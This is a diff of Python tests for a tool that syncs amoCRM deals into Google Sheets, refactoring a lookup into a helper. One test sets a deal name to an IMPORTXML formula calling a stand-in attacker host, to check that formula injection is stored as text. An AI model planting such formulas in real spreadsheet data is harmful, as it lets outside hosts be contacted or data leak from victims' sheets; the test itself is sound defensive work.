@@ -67,6 +67,17 @@ class World:
             now=now or self.now,
         )
 
+    def violated_lead(self) -> int:
+        """A lead of a rostered manager with a deal violation (the manager tab lists it)."""
+        violations = amocrm_frames(self.store)["deal_violations"]
+        leads = self.account.entities["leads"]
+        roster_ids = {int(r[0]) for r in self.tab("Сотрудники")[1:]}
+        return next(
+            int(v)
+            for v in violations["lead_id"]
+            if leads[int(v)]["responsible_user_id"] in roster_ids
+        )
+
     def worksheet(self, title: str):
         return self.gateway().client.open_by_key(BOOK).worksheet(title)
 
@@ -366,12 +377,8 @@ def test_a_lost_input_tab_keeps_the_last_good_output(world: World, title: str, h
 def test_a_formula_in_a_deal_name_stays_text(world: World) -> None:
     now = world.now
     world.cycle(now)
-    violations = amocrm_frames(world.store)["deal_violations"]
     leads = world.account.entities["leads"]
-    roster_ids = {int(r[0]) for r in world.tab("Сотрудники")[1:]}
-    lead_id = next(
-        int(v) for v in violations["lead_id"] if leads[int(v)]["responsible_user_id"] in roster_ids
-    )
+    lead_id = world.violated_lead()
     leads[lead_id]["name"] = '=IMPORTXML("http://evil.example/x", "//a")'
     leads[lead_id]["updated_at"] = NOW
     world.account._changed()
@@ -412,12 +419,8 @@ def test_a_killed_run_gets_its_run_log_row_on_the_next_cycle(world: World) -> No
 def test_strings_past_googles_cell_limit_are_cut_with_a_marker(world: World) -> None:
     now = world.now
     world.cycle(now)
-    violations = amocrm_frames(world.store)["deal_violations"]
     leads = world.account.entities["leads"]
-    roster_ids = {int(r[0]) for r in world.tab("Сотрудники")[1:]}
-    lead_id = next(
-        int(v) for v in violations["lead_id"] if leads[int(v)]["responsible_user_id"] in roster_ids
-    )
+    lead_id = world.violated_lead()
     leads[lead_id]["name"] = "Большая сделка " + "я" * 1_000_000
     leads[lead_id]["updated_at"] = NOW
     world.account._changed()
